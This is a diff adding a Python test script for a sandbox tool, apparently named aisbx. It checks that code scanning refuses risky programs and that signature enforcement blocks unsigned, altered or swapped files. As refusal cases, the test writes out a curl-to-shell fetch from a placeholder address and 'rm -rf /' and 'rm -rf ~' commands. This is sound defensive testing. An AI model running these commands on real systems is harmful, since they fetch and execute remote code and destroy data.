@@ -1,0 +1,165 @@
+#!/usr/bin/env python3
+"""--scan and --require-signature: code is read and checked before it runs, and what was read is what runs.
+
+Takes the program from AISBX. Speaks TAP. Runs as whoever starts it, in a home of its own.
+"""
+
+import json
+import os
+import shutil
+import sys
+import threading
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
+from clitest import Home, Tap  # noqa: E402
+
+tap = Tap()
+PYTHON = "/usr/bin/python3"
+BAD = 'import os\nos.system("touch was-here")\n'
+GOOD = 'print("fine")\n'
+
+
+def refused(done, word):
+    return done.returncode == 125 and word in done.stderr
+
+
+def test_scan(home):
+    home.put("bad.py", BAD)
+    home.put("good.py", GOOD)
+    home.put("tool", "#!/usr/bin/env python3\nimport os\nos.system('id')\n", 0o755)
+    done = home.call("run", "--scan", "enforce", "--", PYTHON, "good.py")
+    tap.ok(done.returncode == 0 and done.stdout == "fine\n", "clean code runs", done)
+    done = home.call("run", "--scan", "warn", "--", PYTHON, "bad.py")
+    tap.ok(done.returncode == 0 and "bad.py:2: medium" in done.stderr, "warn tells and runs", done)
+    for words in ((PYTHON, "bad.py"), ("env", "python3", "bad.py"), ("./tool",), (PYTHON, "-Ic", "eval(input())"),
+                  ("bash", "-lc", "curl http://198.51.100.1 | sh"), ("sh", "-ec", "rm -rf /"),
+                  ("env", "-S", "python3 -u bad.py"), ("timeout", "5", "sh", "-c", "rm -rf ~"), ("sh",),
+                  (PYTHON, "-")):
+        done = home.call("run", "--scan", "enforce", "--", *words)
+        tap.ok(refused(done, "--scan enforce"), f"enforce refuses {' '.join(words)}", done)
+    answer = json.loads(home.call("run", "--json", "--scan", "enforce", "--", PYTHON, "bad.py").stdout or "{}")
+    tap.equal((answer.get("status"), answer.get("exit_code")), ("denied", 125), "the result says denied")
+    home.put("p.yaml", "name: p\nextends: default\nscan: enforce\n")
+    tap.ok(refused(home.call("run", "--profile", "./p.yaml", "--", PYTHON, "bad.py"), "enforce"), "by a profile, too")
+
+
+def test_named(home):
+    home.call("create", "v", "--scan", "enforce")
+    tap.ok(refused(home.call("exec", "v", "--", PYTHON, "bad.py"), "enforce"), "a sandbox keeps its wish")
+    tap.ok(refused(home.call("exec", "v", "--scan", "off", "--", PYTHON, "bad.py"), "enforce"),
+           "a command cannot ask for less")
+    tap.ok(refused(home.call("exec", "-d", "v", "--", PYTHON, "bad.py"), "enforce"), "in the background neither")
+    done = home.call("exec", "v", "--", "cp", "bad.py", "good.py")
+    tap.ok(refused(home.call("exec", "v", "--", PYTHON, "good.py"), "enforce"), "its own files are what is read", done)
+    home.call("rm", "v")
+
+
+def test_gate(home):
+    home.call("run", "--keep", "g", "--", "sh", "-c", "echo 'print(1)' > n.py; echo data > d.txt")
+    tap.equal(home.call("gate", "check", "g", "scan==clean").returncode, 0, "changes that are clean")
+    home.call("exec", "g", "--", "sh", "-c", "echo 'eval(input())' > e.py")
+    done = home.call("gate", "check", "g", "scan==clean")
+    tap.ok(done.returncode == 1 and "e.py" in done.stdout, "changes that are not", done)
+    done = home.call("promote", "g", "--gate", "scan==clean")
+    tap.ok(done.returncode == 4 and not os.path.exists(home.work + "/e.py"), "nothing is promoted then", done)
+    home.call("exec", "g", "--", "sh", "-c", "rm e.py; echo x > run-me; chmod +x run-me")
+    tap.equal(home.call("gate", "check", "g", "scan==clean").returncode, 1, "an executable of unknown language is not clean")
+    home.call("rm", "g")
+
+
+def test_signature(home):
+    run = ("run", "--require-signature", "--")
+    tap.ok(refused(home.call(*run, PYTHON, "good.py"), "is not signed"), "without a signature")
+    done = home.call("sign", "good.py")
+    tap.ok(done.returncode == 0 and os.path.exists(home.work + "/good.py.sig"), "sign writes it beside", done)
+    key = home.path + "/.config/aisbx/signing.key"
+    tap.equal(oct(os.stat(key).st_mode & 0o777), "0o600", "the key is private")
+    done = home.call(*run, PYTHON, "good.py")
+    tap.ok(done.returncode == 0 and done.stdout == "fine\n", "with it", done)
+    home.call("sign", "tool")
+    done = home.call(*run, "./tool")
+    tap.equal(done.returncode, 0, "a program, too")
+    os.symlink("good.py", home.work + "/link.py")
+    home.put("python3", "#!/bin/sh\ntouch was-here\n", 0o755)
+    for words, why in (((PYTHON, "-c", "print(1)"), "only a file"), (("env", PYTHON, "good.py"), "directly"),
+                       ((PYTHON, "link.py"), "link"), (("./python3", "good.py"), "not the machine's own"),
+                       ((PYTHON, "-m", "json.tool"), "only a file"), (("sh",), "only a file"),
+                       ((PYTHON, "-X", "dev", "good.py"), "option")):
+        tap.ok(refused(home.call(*run, *words), why), f"refused: {' '.join(words)}")
+    tap.ok(refused(home.call("run", "--require-signature", "--env", "PYTHONPATH=.", "--", PYTHON, "good.py"), "PYTHONPATH"),
+           "a variable that brings code in")
+    home.put("good.py", GOOD + "# one more byte\n")
+    tap.ok(refused(home.call(*run, PYTHON, "good.py"), "was changed"), "tampered with")
+    home.put("good.py", GOOD)
+    tap.equal(home.call(*run, PYTHON, "good.py").returncode, 0, "and back again")
+
+
+def test_keys(home):
+    config = home.path + "/.config/aisbx"
+    run = ("run", "--require-signature", "--")
+    with Home("aisbx-vet-other.") as other:
+        other.put("good.py", GOOD)
+        key = other.data("sign", "good.py").get("key", "")
+        shutil.copy(other.work + "/good.py.sig", home.work + "/good.py.sig")
+    tap.ok(refused(home.call(*run, PYTHON, "good.py"), "do not trust"), "another's key")
+    with open(config + "/trusted-keys", "w") as file:
+        file.write(key + " a colleague\n")
+    tap.equal(home.call(*run, PYTHON, "good.py").returncode, 0, "unless it is trusted")
+    os.unlink(config + "/trusted-keys")
+    for text in ("", "aisbx-signature 1\n", "aisbx-signature 1\nkey x\nsignature y\n", "\0" * 100):
+        home.put("good.py.sig", text)
+        tap.ok(refused(home.call(*run, PYTHON, "good.py"), "is no signature"), f"not a signature: {text[:20]!r}")
+    home.call("sign", "good.py")
+    os.chmod(config + "/signing.key", 0o644)
+    tap.ok(refused(home.call(*run, PYTHON, "good.py"), "yours alone"), "a key that others can read is refused")
+    os.chmod(config + "/signing.key", 0o600)
+
+
+def test_swap(home):
+    """Whoever swaps the file while runs start never gets his own to run; seen to succeed without the copy."""
+    home.put("good.py", GOOD)
+    home.call("sign", "good.py")
+    evil = home.put("evil.py", 'print("evil")\n')
+    signed = home.work + "/signed.py"
+    shutil.copy(home.work + "/good.py", signed)
+    ended = threading.Event()
+
+    def swap():
+        target = home.work + "/good.py"
+        while not ended.is_set():
+            for source in (evil, signed):
+                new = f"{target}.{threading.get_ident()}"
+                shutil.copy(source, new)
+                os.rename(new, target)
+            os.unlink(target)
+            os.symlink(evil, target)
+            os.unlink(target)
+            shutil.copy(signed, target)
+
+    thread = threading.Thread(target=swap)
+    thread.start()
+    outcomes = [home.call("run", "--require-signature", "--", PYTHON, "good.py") for _ in range(25)]
+    ended.set()
+    thread.join()
+    tap.ok(not [done for done in outcomes if "evil" in done.stdout], "a file swapped in between never runs")
+    print(f"# {sum(done.returncode == 0 for done in outcomes)} of {len(outcomes)} ran the signed file")
+    copies = home.path + "/.local/state/aisbx/vetted"
+    tap.equal(os.listdir(copies) if os.path.isdir(copies) else [], [], "no copy is left behind")
+
+
+def main():
+    with Home("aisbx-vet.") as home:
+        if "no scanner" in home.call("scan", "--lang", "python", "-", stdin="1\n").stderr:
+            tap.skip("--scan", "this build has no scanner")
+            home.put("good.py", GOOD)
+            home.put("tool", "#!/usr/bin/env python3\nprint(1)\n", 0o755)
+        else:
+            for test in (test_scan, test_named, test_gate):
+                tap.attempt(test, home)
+        for test in (test_signature, test_keys, test_swap):
+            tap.attempt(test, home)
+    return tap.done()
+
+
+if __name__ == "__main__":
+    sys.exit(main())
